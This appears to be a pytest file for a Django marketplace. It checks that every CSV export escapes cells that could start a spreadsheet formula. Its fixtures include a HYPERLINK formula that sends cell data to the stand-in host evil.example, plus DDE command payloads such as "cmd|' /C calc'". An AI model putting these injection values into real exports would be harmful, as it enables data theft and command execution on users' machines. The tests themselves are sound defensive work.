"""Every CSV export goes through one helper that neutralises spreadsheet formulas."""

import csv
import io
import pathlib
from decimal import Decimal

import pytest

from marketplace.csv_export import safe_cell
from orders import services
from tests.factories import InstitutionFactory, MembershipFactory, ProductFactory
from tests.orders.test_portal_orders import buyer
from tests.orders.test_statements import DECEMBER_2, MONDAY, november  # noqa: F401

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Mine Bond", "Mine Bond"),
        ("-12.50", "-12.50"),
        (Decimal("-4.80"), Decimal("-4.80")),
        ("+3", "+3"),
        (None, ""),
    ],
)
def test_csv_cells_that_start_a_formula_are_quoted_and_plain_numbers_stay_numbers(value, written):
    assert safe_cell(value) == written


def test_statement_csv_shows_a_formula_product_name_as_text_and_keeps_negative_amounts(
    client,
    november,  # noqa: F811
):
    institution, fund, policy = november
    fund.name = FORMULA
    fund.save(update_fields=["name"])
    statement = services.statement_close(institution=institution, month=MONDAY, today=DECEMBER_2)
    client.force_login(MembershipFactory(institution=institution).user)
    for url in (
        f"/portal/statements/{statement.pk}/csv/",
        f"/api/v1/portal/statements/{statement.pk}/csv/",
    ):
        rows = list(csv.DictReader(io.StringIO(client.get(url).content.decode())))
        names = {row["product"] for row in rows}
        assert "'" + FORMULA in names
        assert FORMULA not in names
        total = next(row for row in rows if row["product"] == "Total")
        assert total["corrections"] == "-4.80"


def test_portal_orders_csv_shows_a_formula_product_name_as_text(client):
    institution = InstitutionFactory()
    product = ProductFactory(institution=institution, risk_level=1, name="@cmd|calc")
    services.order_place(user=buyer(), product=product, side="buy", amount="1000")
    client.force_login(MembershipFactory(institution=institution).user)
    response = client.get("/portal/orders/?format=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][6] == "'@cmd|calc"


def test_no_export_writes_csv_around_the_helper():
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("marketplace", "profiles", "institutions", "products", "orders")
        for path in (root / app).rglob("*.py")
        if ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
        and path.name != "csv_export.py"
    ]
    assert offenders == []
